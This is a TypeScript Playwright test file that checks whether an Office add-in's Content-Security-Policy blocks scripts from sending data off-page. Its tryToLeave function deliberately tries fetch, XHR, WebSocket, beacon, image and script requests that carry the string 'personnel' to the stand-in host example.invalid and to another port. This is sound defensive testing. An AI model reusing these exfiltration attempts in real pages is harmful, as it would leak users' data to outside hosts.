import { copyFileSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { launchChromium } from "../browser/launchChromium";
import { serveFolder } from "../browser/staticServer";
import { tempDir } from "./support/cliRun";

/**
 * The pages' Content-Security-Policy at work in a real Chromium: each page, served as a host
 * serves it, tries every way a script could send data away (fetch, XHR, a socket, a beacon, an
 * image, a script, a form) to another host and to another port of this one. Every request the
 * browser makes is recorded; none may leave the page's own origin, and each attempt must be
 * stopped by the policy itself, not by a missing server. No bundle is built: each page is its
 * head in the pages' shell (src/pages/pageShell.js), as webpack makes it.
 */
const ROOT = join(__dirname, "..", "..");
// eslint-disable-next-line @typescript-eslint/no-require-imports -- the pages' shell is plain CommonJS, shared with webpack
const { pageHtml } = require(join(ROOT, "src/pages/pageShell.js")) as { pageHtml: (headFile: string) => string };
/** The built page of each page's head, as webpack.config.js makes it; help.html is a whole page. */
const PAGES = {
  "taskpane.html": "src/taskpane/taskpane.html",
  "index.html": "src/preview/preview.html",
};
const WHOLE_PAGES = { "help.html": "src/taskpane/help.html" };

let browser: Browser;
let server: { url: string; close: () => Promise<void> };

beforeAll(async () => {
  const dir = tempDir();
  for (const [name, head] of Object.entries(PAGES)) writeFileSync(join(dir, name), pageHtml(join(ROOT, head)));
  for (const [name, source] of Object.entries(WHOLE_PAGES)) copyFileSync(join(ROOT, source), join(dir, name));
  mkdirSync(join(dir, "office"));
  writeFileSync(join(dir, "office", "office.js"), "");
  server = await serveFolder(dir);
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** Runs in the page: each way out, to `target`; resolves once the policy has had its say. */
function tryToLeave(target: string): Promise<string[]> {
  const violations: string[] = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  const attempts: Array<Promise<unknown>> = [
    fetch(`${target}/fetch`).catch(() => undefined),
    new Promise((resolve) => {
      const xhr = new XMLHttpRequest();
      xhr.onloadend = resolve;
      try {
        xhr.open("POST", `${target}/xhr`);
        xhr.send("personnel");
      } catch {
        resolve(undefined);
      }
    }),
    new Promise((resolve) => {
      try {
        const socket = new WebSocket(`${target.replace(/^http/, "ws")}/socket`);
        socket.onerror = resolve;
        socket.onclose = resolve;
      } catch {
        resolve(undefined);
      }
    }),
    new Promise((resolve) => {
      const img = new Image();
      img.onerror = resolve;
      img.onload = resolve;
      img.src = `${target}/img.png`;
    }),
    new Promise((resolve) => {
      const script = document.createElement("script");
      script.onerror = resolve;
      script.onload = resolve;
      script.src = `${target}/script.js`;
      document.head.appendChild(script);
    }),
  ];
  navigator.sendBeacon(`${target}/beacon`, "personnel");
  return Promise.all(attempts).then(
    () => new Promise<string[]>((resolve) => setTimeout(() => resolve(violations), 50)),
  );
}

test.each([...Object.keys(PAGES), ...Object.keys(WHOLE_PAGES)])(
  "%s: nothing reaches another host or port; the policy stops every attempt",
  async (page) => {
    const context = await browser.newContext({ serviceWorkers: "block" });
    const requests: string[] = [];
    await context.route("**/*", (route) => {
      requests.push(route.request().url());
      return route.request().url().startsWith(server.url) ? route.continue() : route.abort();
    });
    const tab = await context.newPage();
    // Sockets bypass routing: the page reports each one it opens.
    tab.on("websocket", (socket) => requests.push(socket.url()));
    await tab.goto(server.url + page);
    const other = new URL(server.url);
    other.port = String(Number(other.port) + 1);
    const directives = [
      ...(await tab.evaluate(tryToLeave, "http://example.invalid")),
      ...(await tab.evaluate(tryToLeave, other.origin)),
    ];
    await context.close();
    expect(requests.filter((url) => !url.startsWith(server.url))).toEqual([]);
    expect(new Set(directives)).toEqual(new Set(["connect-src", "img-src", "script-src-elem"]));
    expect(directives.length).toBe(2 * 6);
  },
  30_000,
);

test("taskpane.html: Microsoft's office.js folder is open to scripts only, and workers only to this origin", async () => {
  const cdn = "https://appsforoffice.microsoft.com/lib/1/hosted";
  const context = await browser.newContext({ serviceWorkers: "block" });
  const requests: string[] = [];
  await context.route("**/*", (route) => {
    const url = route.request().url();
    requests.push(url);
    if (url.startsWith(`${cdn}/`)) return route.fulfill({ contentType: "text/javascript", body: "" });
    return url.startsWith(server.url) ? route.continue() : route.abort();
  });
  const tab = await context.newPage();
  tab.on("websocket", (socket) => requests.push(socket.url()));
  await tab.goto(`${server.url}taskpane.html`);
  const directives = await tab.evaluate(tryToLeave, cdn);
  // The script got through to the (answered) CDN; fetch, XHR, socket, beacon and image did not.
  expect(requests.filter((url) => !url.startsWith(server.url))).toEqual([`${cdn}/script.js`]);
  expect(directives.sort()).toEqual(["connect-src", "connect-src", "connect-src", "connect-src", "img-src"]);
  const worker = await tab.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective));
        try {
          new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
        } catch (e) {
          resolve(`threw ${String(e)}`);
        }
      }),
  );
  expect(worker).toBe("worker-src");
  await context.close();
}, 30_000);
